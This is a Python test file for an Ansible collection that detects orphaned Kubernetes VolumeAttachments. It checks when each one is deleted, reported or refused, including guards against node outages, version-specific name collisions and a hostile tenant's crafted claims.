# Copyright (c) 2026 The storage_ops.runbooks contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What is an orphan and what is not, what is refused, and what the other controls find: a pure
function of what was observed.
"""

from __future__ import annotations

import json
import shlex
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.storage_ops.runbooks.plugins.module_utils._attachments import (
    collision,
    lost_status,
    suspects,
)
from ansible_collections.storage_ops.runbooks.plugins.module_utils._attachments import (
    findings as texts,
)
from ansible_collections.storage_ops.runbooks.plugins.module_utils._attachments import (
    plan as pure,
)
from ansible_collections.storage_ops.runbooks.plugins.module_utils._attachments.state import (
    AttachmentOptions,
    AttachmentState,
)
from ansible_collections.storage_ops.runbooks.plugins.module_utils._core import engine
from ansible_collections.storage_ops.runbooks.plugins.module_utils._core.engine import Finding
from ansible_collections.storage_ops.runbooks.plugins.module_utils._kube import observation
from ansible_collections.storage_ops.runbooks.plugins.module_utils._kube.objects import (
    Attachment,
    Claim,
    Lease,
    Node,
    Owner,
    Pod,
    Volume,
    VolumeError,
    attachment_name,
    unique_name,
)
from ansible_collections.storage_ops.runbooks.plugins.module_utils._kube.observation import (
    Observation,
)

NOW = datetime(2026, 1, 31, 12, tzinfo=timezone.utc)
OLD = NOW - timedelta(hours=1)
DRIVER = "csi.example.com"
# With DRIVER's name one byte longer than needed, since it begins with "csi-".
UNITY = "csi-unity.dellemc.com"
COLLIDING = "v" * (68 - len(UNITY) - 1)
OWNER = Owner("ReplicaSet", "web-5d4f", "o1")


def make_volume(name: str = "pv-1", **changes: Any) -> Volume:
    made = Volume(
        name,
        f"uid-{name}",
        DRIVER,
        f"h-{name}",
        "Bound",
        ("ReadWriteOnce",),
        "shop",
        f"claim-{name}",
        "c1",
        None,
    )
    return made._replace(**changes)


def make_attachment(volume: Volume | None = None, node: str = "n1", **changes: Any) -> Attachment:
    volume = volume or make_volume()
    name = attachment_name(volume.driver, volume.handle, node)
    made = Attachment(
        name,
        f"uid-{volume.name}-{node}",
        volume.driver,
        node,
        volume.name,
        True,
        (),
        None,
        None,
        OLD,
        None,
        ("external-attacher/x",),
    )
    return made._replace(**changes)


def make_node(name: str = "n1", **changes: Any) -> Node:
    return Node(name, f"uid-{name}", "True", OLD, False, True, (), (), (), OLD)._replace(**changes)


def make_pod(name: str = "web-0", **changes: Any) -> Pod:
    made = Pod(
        "shop",
        name,
        f"uid-{name}",
        "n1",
        "Running",
        OLD,
        None,
        ("claim-pv-1",),
        (),
        OWNER,
        True,
        (),
        OLD,
        True,
        False,
    )
    return made._replace(**changes)


def observe(*things: Any, at: float = 0.0, pending: tuple[Pod, ...] = ()) -> Observation:
    """An observation of these things; a node n1 is there unless another is given."""

    def of(kind: type, key: str = "name") -> dict[Any, Any]:
        return {getattr(thing, key): thing for thing in things if isinstance(thing, kind)}

    claims = {(claim.namespace, claim.name): claim for claim in of(Claim).values()}
    pods = tuple(thing for thing in things if isinstance(thing, Pod))
    return Observation(
        at,
        of(Attachment),
        of(Volume),
        of(Node) or {"n1": make_node()},
        pods,
        pending,
        claims,
    )


def state(*observations: Observation, **changes: Any) -> AttachmentState:
    """What a run of STOR-11 and -13 has seen: the same twice, 30 s apart, unless more is given."""
    seen = (
        observations
        if len(observations) > 1
        else (observations[0], replace(observations[0], at=30.0))
    )
    made = AttachmentState(NOW, seen, frozenset(seen[0].attachments), (1, 31, 4), "v1.31.4")
    return replace(made, **changes)


def plan(seen: AttachmentState, **options: Any) -> list[Finding]:
    """Findings, where it is accepted that most of a node's attachments look left over."""
    given = {"accept_majority": True, **options}
    return pure.plan(seen, AttachmentOptions(**given)).findings


def left_over(seen: AttachmentState, **options: Any) -> list[Finding]:
    """Findings of STOR-11 alone."""
    return plan(seen, controls=frozenset({"STOR-11"}), **options)


def only(seen: AttachmentState, **options: Any) -> Finding:
    (finding,) = plan(seen, **options)
    return finding


RELEASED = make_volume(phase="Released")
IN_USE = make_node(volumes_in_use=(unique_name(DRIVER, "h-pv-1"),))


# STOR-11


IN_TREE = "kubernetes.io/aws-ebs/vol-1"


@pytest.mark.parametrize(
    ("seen", "absent"),
    [
        (observe(), {"STOR-11", "STOR-12", "STOR-13", "STOR-14", "STOR-15"}),
        (observe(make_volume()), {"STOR-11", "STOR-14"}),
        (observe(make_attachment()), set()),
        (
            observe(make_node(volumes_attached=(IN_TREE,))),
            {"STOR-11", "STOR-12", "STOR-14"},
        ),
        (observe(make_node(volumes_in_use=(IN_TREE,))), {"STOR-11", "STOR-12", "STOR-14"}),
        (observe(pending=(make_pod(),)), {"STOR-11", "STOR-12", "STOR-14"}),
    ],
)
def test_not_applicable(seen: Observation, absent: set[str]) -> None:
    """Without anything that could be attached, nothing passes."""
    assert set(pure.not_applicable(state(seen))) == absent


def test_an_orphan_is_deleted_by_its_uid() -> None:
    finding = only(state(observe(make_attachment(), RELEASED)))
    assert (finding.control, finding.severity, finding.verdict) == ("STOR-11", "major", "repair")
    (action,) = finding.repair
    name = make_attachment().name
    assert (action.verb, action.target) == ("delete_volumeattachment", name)
    assert action.command == [
        "DELETE",
        f"/apis/storage.k8s.io/v1/volumeattachments/{name}",
        "preconditions.uid=uid-pv-1-n1",
    ]
    assert finding.evidence["because"] == ["its PersistentVolume pv-1 is Released"]
    assert finding.evidence["claim"] == "shop/claim-pv-1"
    assert finding.evidence["observed"] == "2 times over 30.0 s"


@pytest.mark.parametrize(
    ("things", "because"),
    [
        ([make_volume(phase="Failed")], "is Failed"),
        ([], "PersistentVolume pv-1 is gone"),
        (
            [
                make_volume(),
                make_attachment(
                    node="n2", attach_error=VolumeError("in use by n1", OLD), attached=False
                ),
            ],
            "n2 waits for it: in use by n1",
        ),
        ([make_volume(phase="Available")], "is Available"),
    ],
)
def test_strong_signs(things: list[Any], because: str) -> None:
    claim = Claim("shop", "claim-pv-1", "c1", "Bound", "", ("ReadWriteOnce",), "gold", None)
    seen = observe(
        make_attachment(),
        *things,
        make_node(),
        make_node("n2"),
        make_pod(node="n2", phase="Pending"),
        claim,
    )
    finding = only(state(seen, unproven=frozenset({make_attachment().name})))
    assert finding.verdict == "repair"
    assert because in finding.reason


@pytest.mark.parametrize(
    ("version", "verdict"),
    [
        ((1, 20, 2), "repair"),
        ((1, 23, 10), "repair"),
        ((1, 24, 0), "report"),
        ((1, 31, 4), "report"),
    ],
)
def test_the_collision_is_a_sign_on_an_affected_version_only(
    version: tuple[int, int, int], verdict: str
) -> None:
    volume = make_volume(driver=UNITY, handle=COLLIDING)
    finding = only(
        state(observe(make_attachment(volume), volume), version=version),
        controls=frozenset({"STOR-11"}),
    )
    assert finding.verdict == verdict


@pytest.mark.parametrize(
    "sibling",
    [
        make_attachment(node="n2"),
        make_attachment(node="n2", attach_error=VolumeError("x", OLD), deleted=OLD, finalizers=()),
        make_attachment(make_volume("pv-2"), "n2", attach_error=VolumeError("x", OLD)),
    ],
)
def test_an_attachment_elsewhere_is_no_sign_by_itself(sibling: Attachment) -> None:
    seen = observe(
        make_attachment(), sibling, make_volume(), make_node(), make_node("n2"), make_pod(node="n2")
    )
    finding = only(state(seen, unproven=frozenset({make_attachment().name})))
    assert finding.verdict == "report"


def test_an_attach_error_elsewhere_is_no_sign_for_a_shared_volume() -> None:
    shared = make_volume(access_modes=("ReadWriteMany",))
    seen = observe(
        make_attachment(),
        shared,
        make_attachment(node="n2", attach_error=VolumeError("x", OLD)),
        make_node(),
        make_node("n2"),
    )
    assert only(state(seen, unproven=frozenset({make_attachment().name}))).verdict == "report"


def test_without_a_strong_sign_it_is_only_reported() -> None:
    finding = only(state(observe(make_attachment(), make_volume())))
    assert (finding.severity, finding.verdict, finding.repair) == ("minor", "report", [])
    assert "nothing proves that it is left over" in finding.reason


def test_named_without_a_strong_sign_it_is_refused() -> None:
    finding = only(
        state(observe(make_attachment(), make_volume())), names=(make_attachment().name,)
    )
    assert (finding.verdict, finding.named) == ("refuse", True)


NEEDED = {
    "running": make_pod(),
    "pending on that node": make_pod(phase="Pending", alive=False),
    "terminating, containers alive": make_pod(deleted=OLD),
    "failed, containers alive": make_pod(phase="Failed"),
    "terminating, containers dead, phase Running": make_pod(deleted=OLD, alive=False),
    "of a StatefulSet": make_pod("web-0", owner=Owner("StatefulSet", "web", "o2")),
    "one of several that share the claim": make_pod("b"),
    "generic ephemeral volume": make_pod(claims=("web-0-scratch", "claim-pv-1")),
}


@pytest.mark.parametrize("pod", NEEDED.values(), ids=NEEDED)
@pytest.mark.parametrize("volume", [RELEASED, make_volume()], ids=["Released", "Bound"])
def test_no_orphan_while_a_pod_needs_it(pod: Pod, volume: Volume) -> None:
    done = make_pod("done", phase="Succeeded", alive=False)
    assert left_over(state(observe(make_attachment(), volume, done, pod))) == []


def test_a_generic_ephemeral_volume_is_known_by_the_name_of_its_claim() -> None:
    volume = make_volume(claim_name="web-0-scratch", phase="Released")
    assert (
        left_over(
            state(observe(make_attachment(volume), volume, make_pod(claims=("web-0-scratch",))))
        )
        == []
    )


@pytest.mark.parametrize(
    "pod",
    [
        make_pod(phase="Succeeded", alive=False),
        make_pod(phase="Failed", alive=False, deleted=OLD),
        make_pod(node="n2"),
        make_pod(namespace="other"),
        make_pod(claims=("another",)),
        make_pod(claims=(), inline_drivers=(DRIVER,)),
    ],
)
def test_a_pod_that_does_not_need_it_is_not_in_the_way(pod: Pod) -> None:
    assert only(state(observe(make_attachment(), RELEASED, pod))).verdict == "repair"


def test_no_orphan_while_the_kubelet_has_it_in_use() -> None:
    assert left_over(state(observe(make_attachment(), RELEASED, IN_USE))) == []


def test_a_volume_in_use_without_its_persistent_volume_is_no_orphan() -> None:
    assert left_over(state(observe(make_attachment(), IN_USE))) == []


def test_a_migrated_volume_is_known_by_its_attachment() -> None:
    """An in-tree volume that CSI serves has neither driver nor handle in its PersistentVolume."""
    migrated = make_volume(driver="", handle="", phase="Released")
    attachment = make_attachment()
    assert left_over(state(observe(attachment, migrated, IN_USE))) == []
    assert left_over(state(observe(attachment, migrated, make_pod()))) == []
    assert only(state(observe(attachment, migrated))).verdict == "repair"


def test_an_inline_volume_is_no_business_of_ours() -> None:
    assert left_over(state(observe(make_attachment(volume=RELEASED)._replace(volume="")))) == []


def test_a_driver_that_does_not_attach_is_not_judged() -> None:
    assert (
        left_over(state(observe(make_attachment(), RELEASED), detached_drivers=frozenset({DRIVER})))
        == []
    )


def test_one_that_is_young_is_not_judged() -> None:
    young = make_attachment(created=NOW - timedelta(seconds=299))
    assert left_over(state(observe(young, RELEASED))) == []
    assert only(state(observe(young, RELEASED)), min_age_seconds=299).verdict == "repair"
    assert left_over(state(observe(make_attachment(created=None), RELEASED))) == []


GONE: list[Any] = []


@pytest.mark.parametrize(
    "later",
    [
        GONE,
        [make_attachment(uid="another")],
        [make_attachment(deleted=NOW)],
        [make_attachment(), make_pod()],
        [make_attachment(), IN_USE],
    ],
    ids=["gone", "replaced", "being deleted", "needed by a pod", "in use"],
)
def test_what_changes_while_it_is_observed_is_no_orphan(later: list[Any]) -> None:
    first = observe(make_attachment(), RELEASED)
    assert left_over(state(first, observe(*later, RELEASED, at=30.0))) == []


def test_what_was_needed_in_the_first_observation_is_no_orphan() -> None:
    assert (
        left_over(
            state(
                observe(make_attachment(), RELEASED, make_pod()),
                observe(make_attachment(), RELEASED, at=30.0),
            )
        )
        == []
    )


def test_a_single_observation_proves_nothing() -> None:
    seen = observe(make_attachment(), RELEASED)
    finding = only(state(seen, observations=(seen,)))
    assert finding.verdict == "refuse"
    assert "set observations to 2" in finding.reason


@pytest.mark.parametrize(
    ("node", "reason"),
    [
        (make_node(ready="False"), "n1 is not ready (Ready is False)"),
        (make_node(ready="Unknown"), "fail_over_volumes"),
        (make_node("n9"), "n1 does not exist any more"),
        (make_node(managed=False), "the kubelet of n1 attaches volumes by itself"),
        (make_node(ready="Unknown", volumes_in_use=IN_USE.volumes_in_use), "is not ready"),
    ],
    ids=["not ready", "unknown", "gone", "not managed", "frozen volumesInUse"],
)
def test_a_node_that_cannot_be_trusted_is_refused(node: Node, reason: str) -> None:
    finding = only(state(observe(make_attachment(), RELEASED, node)))
    assert (finding.verdict, finding.repair) == ("refuse", [])
    assert reason in finding.reason


def test_a_node_that_was_away_in_one_observation_is_refused() -> None:
    away = observe(make_attachment(), RELEASED, make_node(ready="Unknown"))
    finding = only(state(away, observe(make_attachment(), RELEASED, at=30.0)))
    assert finding.verdict == "refuse"


def test_an_attachment_that_the_controller_manager_did_not_make_is_refused() -> None:
    for name in ("mine", "csi-" + "0" * 64):
        finding = only(state(observe(make_attachment(name=name), RELEASED)))
        assert "it was not made by the controller manager" in finding.reason
    # Without the PersistentVolume only the form of the name tells.
    assert only(state(observe(make_attachment(name="csi-" + "0" * 64)))).verdict == "repair"
    assert only(state(observe(make_attachment(name="mine")))).verdict == "refuse"


def test_a_claim_of_the_same_name_with_another_volume_is_not_in_the_way() -> None:
    """The claim of a StatefulSet is made again, and its pod is back on the node, with a
    new volume.
    """
    claim = Claim("shop", "claim-pv-1", "c2", "Bound", "pv-new", ("ReadWriteOnce",), "gold", None)
    assert only(state(observe(make_attachment(), RELEASED, make_pod(), claim))).verdict == "repair"
    assert (
        left_over(
            state(observe(make_attachment(), RELEASED, make_pod(), claim._replace(volume="pv-1")))
        )
        == []
    )
    # Not bound yet: it is unknown to what it will be.
    assert (
        left_over(
            state(observe(make_attachment(), RELEASED, make_pod(), claim._replace(volume="")))
        )
        == []
    )


def test_without_the_volume_its_claim_tells_who_needs_it() -> None:
    claim = Claim("shop", "claim-pv-1", "c1", "Bound", "pv-1", ("ReadWriteOnce",), "gold", None)
    assert left_over(state(observe(make_attachment(), make_pod(), claim))) == []
    assert only(state(observe(make_attachment(), make_pod(node="n2"), claim))).verdict == "repair"
    # The controller manager says Lost of what any tenant's claim names.
    lost = claim._replace(phase="Lost")
    finding = only(state(observe(make_attachment(), make_pod(), lost)))
    assert (finding.verdict, finding.code) == ("refuse", "in_use_by_pod")
    assert "pod shop/web-0 has the claim claim-pv-1, which names pv-1" in finding.reason
    # Its name tells that the volume was made for this claim.
    own = make_volume("pvc-c1")
    attachment, claim = make_attachment(own), lost._replace(volume="pvc-c1")
    assert left_over(state(observe(attachment, make_pod(), claim))) == []
    assert left_over(state(observe(attachment, make_pod(), claim._replace(uid="c2"))))


EVILS = Claim("evil", "c", "cu", "Pending", "pv-1", ("ReadWriteOnce",), "", None, OLD)


@pytest.mark.parametrize("phase", ["", "Pending", "Lost"])
@pytest.mark.parametrize("ran", [False, True])
def test_a_tenants_claim_hides_no_attachment_of_others(phase: str, ran: bool) -> None:
    """Any tenant may make a claim that names another's volume, and a pod that waits for it."""
    claim = EVILS._replace(phase=phase)
    waits = make_pod("p", namespace="evil", claims=("c",), alive=ran, ran=ran)
    seen = state(observe(make_attachment(), waits, claim))
    finding = only(seen)
    # A kubelet mounts nothing whose PersistentVolume is gone.
    assert finding.verdict == ("refuse" if ran else "repair")
    assert ("pod evil/p has the claim c" in finding.reason) is ran
    assert plan(seen, namespaces=("evil",)) == []
    # While the volume has no claim, it may become that claim's.
    free = make_volume(phase="Available", claim_namespace="", claim_name="", claim_uid="")
    finding = only(state(observe(make_attachment(), free, waits, claim)))
    assert (finding.verdict, finding.code) == ("refuse", "in_use_by_pod")
    passed = replace(observe(make_attachment(), free, claim), passed_pods=(waits,))
    assert [why.code for why in observation.blockers(passed, make_attachment())] == [
        "in_use_by_pod"
    ]


@pytest.mark.parametrize("phase", ["Pending", "Bound"])
def test_nor_does_it_where_the_volume_names_another_claim(phase: str) -> None:
    """Bound it may be to an earlier volume of that name."""
    claim = EVILS._replace(phase=phase)
    waits = make_pod("p", namespace="evil", claims=("c",), alive=False, ran=False)
    seen = state(observe(make_attachment(), RELEASED, waits, claim))
    assert only(seen).verdict == "repair"
    assert plan(seen, namespaces=("evil",)) == []
    # It may have been that claim's before an administrator gave the volume to another one.
    runs = waits._replace(ran=True)
    finding = only(state(observe(make_attachment(), RELEASED, runs, claim)))
    assert finding.verdict == "refuse" and "pod evil/p has the claim c" in finding.reason


def test_nor_does_a_claim_that_is_made_again_for_a_pod_that_runs() -> None:
    """Its owner takes the finalizer from its claim, and makes another one that names a volume of
    others: whatever the pod has mounted, it got before.
    """
    again = EVILS._replace(phase="Lost", created=OLD)
    runs = make_pod("p", namespace="evil", claims=("c",), scheduled=OLD - timedelta(hours=1))
    seen = observe(make_attachment(), RELEASED, runs, again)
    assert only(state(seen)).verdict == "repair"
    # Unless the kubelet says that it is mounted, or the volume has no claim and may be bound to it.
    used = replace(seen, passed_nodes=(IN_USE,))
    assert "pod evil/p has the claim c" in observation.blockers(used, make_attachment())[0]
    free = make_volume(phase="Available", claim_namespace="", claim_name="", claim_uid="")
    taken = observe(make_attachment(), free, runs, again)
    assert "in_use_by_pod" in [why.code for why in observation.blockers(taken, make_attachment())]


def test_a_pod_that_names_many_claims_is_one_reason() -> None:
    """A Reason for each of 45,000 took 26 MB for each such pod."""
    lost, claims = make_attachment(), tuple(f"c{number}" for number in range(5_000))
    many = make_pod("x", claims=claims)
    told = observe(lost, many, make_pod("y", claims=claims)).unexplained(lost)
    assert [why.code for why in told] == ["claim_unbound"] * 2
    assert "shop/x names the claim c0," in told[0]


def test_a_tenants_pod_elsewhere_is_no_sign_that_the_volume_is_waited_for() -> None:
    other = make_attachment(node="n2", attached=False, attach_error=VolumeError("it is on n1", OLD))
    waits = make_pod("p", namespace="evil", claims=("c",), node="n2", phase="Pending", ran=False)
    bound = make_volume()
    seen = observe(make_attachment(), other, bound, waits, EVILS)
    assert observation.proofs(seen, make_attachment(), (1, 31, 0), "v1.31") == []


def test_a_tenants_pod_that_is_older_than_its_claim_is_told() -> None:
    """Of one whose containers ran, nothing tells what it had mounted before: see the security
    page.
    """
    late = EVILS._replace(phase="Bound", volume="own-pv", created=OLD)
    runs = make_pod("p", namespace="evil", claims=("c",), scheduled=OLD - timedelta(hours=1))
    finding = only(state(observe(make_attachment(), runs, late)))
    assert (finding.verdict, finding.code) == ("refuse", "in_use_by_pod")
    assert "pod evil/p was there before its claim c" in finding.reason


def test_only_a_pod_that_may_have_mounted_something_keeps_an_unexplained_attachment() -> None:
    # Its PersistentVolume is gone.
    lost = make_attachment()
    waits = make_pod("x", phase="Pending", alive=False, ran=False)
    blockers = observation.blockers
    assert blockers(observe(lost, waits), lost) == []
    used = observe(lost, waits, IN_USE)
    for seen in (observe(lost, make_pod("x")), used):
        (why,) = blockers(seen, lost)
        assert why.code == "claim_unbound" and "shop/x names the claim claim-pv-1" in why
    before = replace(observe(lost, waits), passed_nodes=(IN_USE,))
    assert [why.code for why in blockers(before, lost)] == ["claim_unbound"]


def test_a_held_finalizer_is_refused_and_told() -> None:
    held = make_attachment(
        deleted=OLD, detach_error=VolumeError("LUN is busy", NOW - timedelta(seconds=30))
    )
    finding = only(state(observe(held, RELEASED)))
    assert (finding.verdict, finding.repair) == ("refuse", [])
    assert finding.summary.endswith("was deleted 60 min ago and is still there")
    assert "external-attacher/x is held" in finding.reason
    assert "says: LUN is busy" in finding.reason
    assert finding.evidence["deleted_seconds_ago"] == 3600
    assert finding.evidence["detach_error"] == "LUN is busy (30 s ago)"
    silent = only(state(observe(held._replace(detach_error=None), RELEASED)))
    assert "says nothing: is it running?" in silent.reason


def test_a_deletion_that_runs_its_course_is_left_alone() -> None:
    assert (
        left_over(state(observe(make_attachment(deleted=NOW - timedelta(seconds=299)), RELEASED)))
        == []
    )
    assert left_over(state(observe(make_attachment(deleted=OLD, finalizers=()), RELEASED))) == []


def orphans(count: int, healthy: int = 0, **changes: Any) -> AttachmentState:
    volumes = [make_volume(f"pv-{number}", phase="Released") for number in range(count)]
    used = [make_volume(f"used-{number}") for number in range(healthy)]
    node = make_node(volumes_in_use=tuple(unique_name(DRIVER, volume.handle) for volume in used))
    things = [make_attachment(volume) for volume in volumes + used]
    made = state(observe(*volumes, *used, *things, node))
    return replace(made, unproven=frozenset(thing.name for thing in things[:count]), **changes)


@pytest.mark.parametrize(
    ("broken", "healthy", "verdict"),
    [
        (1, 0, "refuse"),
        (1, 1, "refuse"),
        (1, 2, "refuse"),
        (1, 3, "repair"),
        (2, 2, "repair"),
        (4, 0, "refuse"),
        (3, 2, "refuse"),
    ],
)
def test_an_outage_of_a_node_is_refused(broken: int, healthy: int, verdict: str) -> None:
    findings = plan(orphans(broken, healthy), accept_majority=False)
    assert len(findings) == broken
    assert {finding.verdict for finding in findings} == {verdict}
    assert {
        finding.verdict for finding in plan(orphans(broken, healthy), accept_majority=True)
    } == {"repair"}


def of_tenants(**counts: tuple[int, int]) -> AttachmentState:
    """By namespace, how many of its attachments look left over, and how many are in use; of "none"
    the PersistentVolumes are gone.
    """
    volumes = [
        make_volume(
            f"{space}-{number}",
            phase="Released" if number < broken else "Bound",
            claim_namespace=space,
        )
        for space, (broken, healthy) in counts.items()
        for number in range(broken + healthy)
    ]
    used = [volume for volume in volumes if volume.phase == "Bound"]
    node = make_node(volumes_in_use=tuple(unique_name(DRIVER, volume.handle) for volume in used))
    things = [make_attachment(volume) for volume in volumes]
    there = [volume for volume in volumes if volume.claim_namespace != "none"]
    made = state(observe(*there, *things, node))
    left = [thing.name for thing, volume in zip(things, volumes) if volume not in used]
    return replace(made, unproven=frozenset(left))


@pytest.mark.parametrize(
    ("counts", "verdict"),
    [
        # One tenant's many make no outage of what others have.
        ({"evil": (9, 0), "shop": (1, 2), "bank": (0, 2)}, "repair"),
        ({"evil": (1, 0), "shop": (1, 2), "bank": (0, 2)}, "repair"),
        # Most of what most of the tenants have.
        ({"evil": (9, 0), "shop": (2, 1), "bank": (0, 2)}, "refuse"),
        ({"evil": (1, 0), "shop": (1, 0), "bank": (0, 9)}, "refuse"),
        # A list of PersistentVolumes that is not whole looks like this.
        ({"none": (6, 0), "shop": (0, 2), "bank": (0, 3)}, "refuse"),
        ({"none": (5, 0), "shop": (0, 2), "bank": (0, 3)}, "repair"),
    ],
)
def test_each_namespace_counts_once_in_an_outage(
    counts: dict[str, tuple[int, int]], verdict: str
) -> None:
    findings = plan(of_tenants(**counts), accept_majority=False, max_repairs=99)
    assert {finding.verdict for finding in findings} == {verdict}
    assert len(findings) == sum(broken for broken, _healthy in counts.values())
    if verdict == "refuse" and "none" not in counts:
        assert "attachments (most of those of 2 of 3 namespaces) look broken" in findings[0].reason


def test_a_scope_does_not_change_what_counts_as_an_outage() -> None:
    name = make_attachment(make_volume("pv-0")).name
    finding = only(orphans(4), names=(name,), accept_majority=False)
    assert (finding.verdict, finding.named) == ("refuse", True)
    assert "4 of n1's 4 attachments look broken" in finding.reason


def test_max_repairs() -> None:
    findings = plan(orphans(3), max_repairs=2)
    assert [finding.verdict for finding in findings] == ["repair", "repair", "refuse"]
    assert ("max_repairs is 2" in findings[2].reason, findings[2].code) == (
        True,
        "too_many_repairs",
    )
    assert {finding.verdict for finding in plan(orphans(3), max_repairs=0)} == {"refuse"}


@pytest.mark.parametrize(
    ("scope", "found"),
    [
        ({"drivers": (DRIVER,)}, True),
        ({"drivers": (UNITY,)}, False),
        ({"nodes": ("n1", "n2")}, True),
        ({"nodes": ("n2",)}, False),
        ({"namespaces": ("shop",)}, True),
        ({"namespaces": ("other",)}, False),
        ({"names": ("csi-other",)}, False),
        ({"names": (make_attachment().name,), "nodes": ("n2",)}, False),
    ],
)
def test_scope(scope: dict[str, tuple[str, ...]], found: bool) -> None:
    seen = observe(make_attachment(), RELEASED)
    assert bool(plan(state(seen), **scope)) is found
    assert bool(suspects.suspects(seen, AttachmentOptions(**scope), NOW)) is found


def test_controls_that_were_not_asked_for_are_silent() -> None:
    assert plan(state(observe(make_attachment(), RELEASED)), controls=frozenset({"STOR-13"})) == []


PODS = st.builds(
    make_pod,
    st.sampled_from(["a", "b"]),
    node=st.sampled_from(["n1", "n2"]),
    phase=st.sampled_from(["Pending", "Running", "Succeeded", "Failed", "Unknown"]),
    alive=st.booleans(),
    deleted=st.sampled_from([None, OLD]),
    claims=st.sampled_from([(), ("claim-pv-1",), ("x", "claim-pv-1"), ("x",)]),
)


@given(
    pods=st.lists(PODS, max_size=3),
    phase=st.sampled_from(["Bound", "Released", "Failed", "Available"]),
    ready=st.sampled_from(["True", "False", "Unknown"]),
    in_use=st.booleans(),
    deleted=st.sampled_from([None, OLD]),
    created=st.sampled_from([None, OLD, NOW]),
)
def test_never_deletes_what_anybody_needs(
    pods: list[Pod],
    phase: str,
    ready: str,
    in_use: bool,
    deleted: datetime | None,
    created: datetime | None,
) -> None:
    node = make_node(ready=ready, volumes_in_use=IN_USE.volumes_in_use if in_use else ())
    attachment = make_attachment(deleted=deleted, created=created)
    findings = plan(
        state(observe(attachment, make_volume(phase=phase), node, *pods)),
        controls=frozenset({"STOR-11"}),
    )
    needs = [pod for pod in pods if pod.node == "n1" and "claim-pv-1" in pod.claims]
    needed = any(pod.phase not in ("Succeeded", "Failed") or pod.alive for pod in needs)
    repaired = any(finding.repair for finding in findings)
    assert repaired == (
        not needed
        and not in_use
        and ready == "True"
        and not deleted
        and created == OLD
        and phase != "Bound"
    )


# Several PersistentVolumes of one volume of the storage, which share its attachment

TWIN = make_volume("pv-twin", handle="h-pv-1")
TENANT = make_pod(claims=("claim-pv-twin",))


@pytest.mark.parametrize("own", [[RELEASED], []], ids=["Released", "gone"])
def test_a_pod_of_another_volume_with_the_same_handle_needs_the_attachment(
    own: list[Volume],
) -> None:
    assert left_over(state(observe(make_attachment(), *own, TWIN, TENANT))) == []
    assert (
        observation.needed_by(observe(make_attachment(), *own, TWIN, TENANT), make_attachment())
        == "pod shop/web-0 on n1"
    )


@pytest.mark.parametrize("own", [[RELEASED], []], ids=["Released", "gone"])
def test_an_attachment_that_several_volumes_share_is_refused(own: list[Volume]) -> None:
    finding = only(state(observe(make_attachment(), *own, TWIN)))
    assert (finding.verdict, finding.repair) == ("refuse", [])
    assert (
        "PersistentVolume pv-twin (shop/claim-pv-twin, Bound) has the same driver and handle"
        in finding.reason
    )


def test_volumes_without_driver_and_handle_do_not_share_anything() -> None:
    migrated = [
        make_volume(name, driver="", handle="", phase="Released") for name in ("pv-1", "pv-2")
    ]
    assert only(state(observe(make_attachment(), *migrated))).verdict == "repair"


def test_the_same_handle_of_another_driver_is_another_volume() -> None:
    other = TWIN._replace(driver=UNITY)
    assert only(state(observe(make_attachment(), RELEASED, other, TENANT))).verdict == "repair"


# STOR-12


def unity(handle: str = COLLIDING, **changes: Any) -> Volume:
    return make_volume(driver=UNITY, handle=handle, **changes)


@pytest.mark.parametrize(
    ("version", "severity", "words"),
    [
        ((1, 20, 2), "critical", "is affected"),
        ((1, 24, 1), "major", "it is unknown whether"),
        ((1, 25, 0), "", ""),
    ],
)
def test_the_collision_is_found_before_it_breaks(
    version: tuple[int, int, int], severity: str, words: str
) -> None:
    volume = unity()
    node = make_node(volumes_in_use=(unique_name(UNITY, COLLIDING),))
    seen = observe(
        make_attachment(volume),
        make_attachment(volume, "n2", attached=False),
        volume,
        node,
        make_pod(),
    )
    findings = plan(state(seen, version=version, version_text="vX", unproven=frozenset()))
    if not severity:
        assert findings == []
        return
    (finding,) = findings
    assert (finding.control, finding.severity, finding.kind, finding.name, finding.verdict) == (
        "STOR-12",
        severity,
        "PersistentVolume",
        "pv-1",
        "report",
    )
    assert words in finding.reason
    assert "it is attached to n1 now: deleting its pod" in finding.reason
    assert "safe_volume_name_prefix" in finding.reason
    assert finding.evidence["attached_to"] == ["n1"]


@pytest.mark.parametrize(
    ("nodes", "used", "idle"),
    [
        ([make_node()], "", "n1"),
        ([make_node(ready="Unknown")], "n1", ""),
        ([make_node("n2")], "n1", ""),
        (
            [make_node(), make_node("n2", volumes_in_use=(unique_name(UNITY, COLLIDING),))],
            "n2",
            "n1",
        ),
    ],
)
def test_a_collision_that_has_happened_already(nodes: list[Node], used: str, idle: str) -> None:
    volume = unity()
    made = [make_attachment(volume, node) for node in filter(None, (used, idle))]
    seen = state(observe(*made, volume, *nodes), version=(1, 20, 2), unproven=frozenset())
    (finding,) = plan(seen, controls=frozenset({"STOR-12"}))
    assert (
        f"it is attached to {used} now: deleting its pod will leave that behind" in finding.reason
    ) == bool(used)
    assert (
        f"it is still attached to {idle}, where the kubelet does not use it: see STOR-11"
        in finding.reason
    ) == bool(idle)
    assert "its next detach" not in finding.reason


def test_a_volume_that_is_not_attached_collides_at_its_next_detach() -> None:
    finding = only(state(observe(unity()), version=(1, 20, 2)))
    assert "its next detach" in finding.reason


@pytest.mark.parametrize("handle", [COLLIDING, COLLIDING[:-3] + "_9"])
def test_a_driver_that_does_not_attach_does_not_detach(handle: str) -> None:
    seen = state(observe(unity(handle)), version=(1, 20, 2))
    assert len(plan(seen)) == 1
    assert plan(replace(seen, detached_drivers=frozenset({UNITY}))) == []


@pytest.mark.parametrize(
    ("handle", "version", "may"),
    [(COLLIDING, (1, 20, 2), True), ("x_1", (1, 20, 2), False), (COLLIDING, (1, 31, 4), False)],
)
def test_when_collisions_are_looked_into(
    handle: str, version: tuple[int, int, int], may: bool
) -> None:
    assert collision.may_collide(observe(unity(handle)), version) is may


@pytest.mark.parametrize("length", [67, 69])
def test_neighbouring_lengths_do_not_collide(length: int) -> None:
    assert plan(state(observe(unity("v" * (length - len(UNITY) - 1))), version=(1, 20, 2))) == []


def test_drivers_whose_names_grow_into_it() -> None:
    close = unity(COLLIDING[:-3] + "_9")
    finding = only(state(observe(close, unity("short_1", name="pv-2")), version=(1, 20, 2)))
    assert (finding.severity, finding.kind, finding.name) == ("info", "CSIDriver", UNITY)
